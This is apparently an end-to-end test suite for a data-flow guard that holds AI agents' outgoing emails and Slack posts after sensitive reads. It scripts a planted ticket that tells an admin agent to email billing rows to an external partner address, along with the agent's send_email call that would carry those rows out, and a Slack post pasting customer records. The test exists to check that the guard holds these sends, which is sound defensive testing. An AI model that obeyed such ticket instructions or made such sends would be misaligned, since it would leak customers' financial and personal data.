// The flow guard's judged scenarios (issue 17) on the fleet `pnpm start` starts (the real CLI as a child
// process, every server, the example policy): an admin agent reads the demo ticket that tells it to
// email customer rows to audit@partner.example, queries the warehouse's billing schema, then sends the
// email: held for a person, the reason naming the billing read, nothing at the SMTP simulator. The same
// email from a session that read nothing is sent; the held one, once alice approves it, is sent once.
// A support agent pasting rows it read into an internal Slack post is held (copy detection); a normal
// reply is posted. What reached the simulators is read from their own records, never from the answers.
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type AgentSession,
  agentSession,
  approvalIdOf,
  approveAsAlice,
  auditOf,
  callAt,
  emailsWithSubject,
  type FlowFleet,
  findPartnerTicket,
  PARTNER_ADDRESS,
  slackPostRequests,
  slackPostsWith,
  smtpRequests,
  startFlowFleet,
} from './flow/harness.js';

const RUN = randomUUID().slice(0, 8);
let f: FlowFleet;
let comm: string;
let db: string;
let ticketKey: string;

beforeAll(async () => {
  f = await startFlowFleet();
  comm = f.fleet.urls.communication!;
  db = f.fleet.urls.database!;
  ticketKey = await findPartnerTicket(f, comm);
}, 300_000);
afterAll(async () => {
  if (f) expect(await f.close()).toBe(0);
}, 60_000);

/** The billing rows the admin agent reads: customers with their plan and monthly revenue. */
const BILLING_SQL =
  'SELECT s.customer_id, s.plan, s.mrr_cents, s.status FROM billing.subscriptions s ORDER BY s.customer_id LIMIT 5';

/** Rows of a run_query answer as lines of text (what an agent pastes into a message). */
function rowsText(data: Record<string, unknown> | undefined): string {
  const rows = (data?.rows ?? []) as unknown[][];
  return rows.map((r) => r.join(' | ')).join('\n');
}

describe('an admin agent told by a ticket to email billing rows to the partner', () => {
  const subject = `Customer rows for the audit ${RUN}`;
  let tainted: AgentSession;
  let email: { to: string; subject: string; text: string };
  let heldId = '';

  it('reads the ticket and the billing schema; the send is held, its reason names the read, nothing reaches SMTP', async () => {
    tainted = await agentSession(f, {
      agent: 'e2e-flow-admin',
      role: 'admin',
      session: `flow-admin-${RUN}`,
      user: 'bob',
    });
    const ticket = await callAt(comm, tainted, 'get_ticket', { issue_key: ticketKey });
    expect(ticket.isError, ticket.text).toBe(false);
    expect(JSON.stringify(ticket.data)).toContain(PARTNER_ADDRESS);

    const rows = await callAt(db, tainted, 'run_query', { sql: BILLING_SQL });
    expect(rows.isError, rows.text).toBe(false);
    const text = rowsText(rows.data);
    expect(text.split('\n')).toHaveLength(5);
    email = { to: PARTNER_ADDRESS, subject, text: `As requested in ${ticketKey}:\n${text}` };

    const smtpBefore = await smtpRequests(f);
    const held = await callAt(comm, tainted, 'send_email', email);
    expect(held.code, held.text).toBe('awaiting_approval');
    expect(held.text).toContain('has NOT run');
    heldId = approvalIdOf(held);
    expect(heldId).toMatch(/^[0-9a-f-]{36}$/);

    // The audit record of the held send says why: the flow rule, the earlier read (database/run_query,
    // schema billing, financial) and the external destination.
    const [rec] = await auditOf(f, tainted.session, 'send_email');
    expect(rec!.outcome).toBe('awaiting_approval');
    const reason = rec!.decision_reason ?? '';
    expect(reason).toMatch(/flow rule "[a-z0-9_-]+"/);
    expect(reason).toContain('database/run_query');
    expect(reason).toContain('schema billing');
    expect(reason).toMatch(/financial/);
    expect(reason).toContain(`email:${PARTNER_ADDRESS}`);
    const flow = (rec!.details?.flow ?? {}) as { holds?: { kind: string; action: string }[] };
    expect(
      flow.holds?.some((h) => h.kind === 'rule' && h.action === 'approval'),
      JSON.stringify(flow),
    ).toBe(true);

    // Nothing reached the SMTP simulator: not a connection, not a message.
    expect(await smtpRequests(f)).toBe(smtpBefore);
    expect(await emailsWithSubject(f, subject)).toHaveLength(0);
  }, 120_000);

  it('sends the same email from a fresh session that read nothing: one message at the SMTP simulator', async () => {
    expect(email, 'the held scenario ran first').toBeDefined();
    const fresh = await agentSession(f, {
      agent: 'e2e-flow-admin',
      role: 'admin',
      session: `flow-admin-fresh-${RUN}`,
      user: 'bob',
    });
    const sent = await callAt(comm, fresh, 'send_email', email);
    expect(sent.isError, sent.text).toBe(false);
    const at = await emailsWithSubject(f, subject);
    expect(at).toHaveLength(1);
    expect(at[0]!.destination).toContain(PARTNER_ADDRESS);
    const [rec] = await auditOf(f, fresh.session, 'send_email');
    expect(rec!.outcome).toBe('ok');
  }, 120_000);

  it('sends the held email exactly once after alice approves it', async () => {
    expect(heldId, 'the held scenario ran first').not.toBe('');
    // Still held while nobody has decided.
    const early = await callAt(comm, tainted, 'send_email', { ...email, approval_id: heldId });
    expect(early.code, early.text).toBe('awaiting_approval');
    expect(await emailsWithSubject(f, subject)).toHaveLength(1);

    await approveAsAlice(f, 'communication', heldId);
    const resumed = await callAt(comm, tainted, 'send_email', { ...email, approval_id: heldId });
    expect(resumed.isError, resumed.text).toBe(false);
    expect(await emailsWithSubject(f, subject)).toHaveLength(2);

    // The approval runs the send once: a second resume is refused and sends nothing.
    const again = await callAt(comm, tainted, 'send_email', { ...email, approval_id: heldId });
    expect(again.isError).toBe(true);
    expect(again.text).toContain('already been used');
    expect(await emailsWithSubject(f, subject)).toHaveLength(2);
  }, 120_000);
});

describe('a support agent pasting rows it read into an internal Slack post', () => {
  const channel = '#support-escalations';

  it('is held (copy detection) and the Slack simulator gets no post', async () => {
    const s = await agentSession(f, {
      agent: 'e2e-flow-support',
      role: 'support',
      session: `flow-sup-${RUN}`,
    });
    const rows = await callAt(db, s, 'run_query', {
      sql: 'SELECT id, name, email FROM sales.customers ORDER BY id LIMIT 3',
    });
    expect(rows.isError, rows.text).toBe(false);
    const pasted = rowsText(rows.data);
    expect(pasted.split('\n')).toHaveLength(3);
    const marker = `copy-${RUN}`;
    const before = await slackPostRequests(f);
    const post = await callAt(comm, s, 'slack_post_message', {
      channel,
      text: `Customers to call back (${marker}):\n${pasted}`,
    });
    expect(post.code, post.text).toBe('awaiting_approval');
    const [rec] = await auditOf(f, s.session, 'slack_post_message');
    expect(rec!.outcome).toBe('awaiting_approval');
    const flow = (rec!.details?.flow ?? {}) as { holds?: { kind: string }[]; copy?: { matches: number } };
    expect(
      flow.holds?.some((h) => h.kind === 'copy'),
      JSON.stringify(rec),
    ).toBe(true);
    expect(flow.copy?.matches ?? 0).toBeGreaterThanOrEqual(2);
    // The reason names the read the rows came from.
    expect(rec!.decision_reason ?? '').toContain('database/run_query');
    expect(await slackPostRequests(f)).toBe(before);
    expect(await slackPostsWith(f, marker)).toHaveLength(0);

    // The same session's own words (no returned value in them) are posted: copy detection, not a
    // blanket hold of every post after a read.
    const own = `reply-after-read-${RUN}`;
    const reply = await callAt(comm, s, 'slack_post_message', {
      channel,
      text: `Looking into the failed invoice exports for acme now (${own}).`,
    });
    expect(reply.isError, reply.text).toBe(false);
    expect(await slackPostsWith(f, own)).toHaveLength(1);
  }, 120_000);

  it("lets a support agent's normal work through: a ticket and a post naming the one customer it looked up", async () => {
    // What `pnpm example` and the communication journey do: look a customer up, open a SUP ticket
    // naming them, post its key. Naming the customer (name and email) is the work, not a leak: copy
    // detection holds pasted rows, not this.
    const s = await agentSession(f, {
      agent: 'e2e-flow-support',
      role: 'support',
      session: `flow-sup-work-${RUN}`,
    });
    const found = await callAt(db, s, 'run_query', {
      sql: 'SELECT id, name, email FROM sales.customers ORDER BY id LIMIT 1',
    });
    expect(found.isError, found.text).toBe(false);
    const [id, name, email] = (found.data!.rows as [number, string, string][])[0]!;
    const ticket = await callAt(comm, s, 'create_ticket', {
      project: 'SUP',
      issue_type: 'Task',
      summary: `Refund request from ${email}`,
      description: `${name} (customer ${id}) was charged twice for the card fee.`,
      idempotency_key: `flow-work-${RUN}-ticket`,
    });
    expect(ticket.code, ticket.text).toBeUndefined();
    expect(ticket.isError, ticket.text).toBe(false);
    const key = String(ticket.data?.key);
    const marker = `work-${RUN}`;
    const post = await callAt(comm, s, 'slack_post_message', {
      channel,
      text: `${key}: refund requested for ${email} (${marker})`,
      idempotency_key: `flow-work-${RUN}-slack`,
    });
    expect(post.isError, post.text).toBe(false);
    expect(await slackPostsWith(f, marker)).toHaveLength(1);
  }, 120_000);

  it('posts a normal support reply from a session with no such read', async () => {
    const s = await agentSession(f, {
      agent: 'e2e-flow-support',
      role: 'support',
      session: `flow-sup-fresh-${RUN}`,
    });
    const marker = `reply-${RUN}`;
    const post = await callAt(comm, s, 'slack_post_message', {
      channel,
      text: `Export worker restarted, acme's invoice exports run again (${marker}).`,
    });
    expect(post.isError, post.text).toBe(false);
    expect(await slackPostsWith(f, marker)).toHaveLength(1);
  }, 120_000);
});
